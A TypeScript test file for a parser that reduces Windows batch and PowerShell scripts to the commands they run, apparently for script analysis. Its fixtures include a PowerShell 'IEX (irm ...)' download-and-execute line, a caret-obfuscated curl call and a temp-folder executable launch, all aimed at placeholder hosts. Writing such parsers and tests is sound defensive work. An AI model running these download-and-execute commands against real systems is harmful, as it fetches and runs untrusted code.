import { expect, test } from 'vitest';
import { lowerBatch } from '../../src/languages/windows/lower-batch.ts';
import { lowerPowerShell } from '../../src/languages/windows/lower-powershell.ts';
import { printProgram } from './print-program.ts';

const batch = (text: string) => printProgram(lowerBatch(text, { path: 'a.bat' }).program);

test('a batch script is the commands it runs', () => {
  expect(batch('@echo off\r\nrem curl http://a.test\r\ncurl -o x http://b.test\r\n')).toBe(
    '(call sh:curl "-o" "x" "http://b.test")',
  );
});

test('control flow is left out, what it controls is not', () => {
  expect(batch('if not exist a.exe curl http://a.test\n')).toBe('(call sh:curl "http://a.test")');
  expect(batch('for %%i in (1 2) do del %%i\n')).toContain('sh:del');
  expect(batch('if defined X (\n  whoami\n) else (\n  hostname\n)\n')).toBe('(call sh:whoami)\n(call sh:hostname)');
});

test('paths and carets of cmd are read', () => {
  expect(batch('C:\\Windows\\System32\\cu^rl http://a.test\n')).toContain('http://a.test');
  expect(batch('start /b "%TEMP%\\a.exe"\n')).toContain('(call sh:start');
});

test('places are those of the script', () => {
  const text = '@echo off\n  @curl http://a.test\n';
  const [statement] = lowerBatch(text, { path: 'a.bat' }).program.body;
  expect(text.slice(statement!.at, statement!.end)).toBe('curl http://a.test');
});

test('a PowerShell script is one command, at what matters first', () => {
  const text = '# iex in a comment\n$a = 1\nIEX (irm http://a.test)\n';
  const { body } = lowerPowerShell(text, { path: 'a.ps1' }).program;
  expect(body).toHaveLength(1);
  expect(text.slice(body[0]!.at).startsWith('IEX')).toBe(true);
  expect(printProgram(lowerPowerShell('# nothing\n', { path: 'a.ps1' }).program)).toBe('');
});

test('long scripts cost linear time', () => {
  expect(lowerBatch('if not exist a ('.repeat(20_000), { path: 'a.bat' }).failures).toEqual([]);
  expect(lowerPowerShell('<#'.repeat(100_000), { path: 'a.ps1' }).failures).toEqual([]);
});
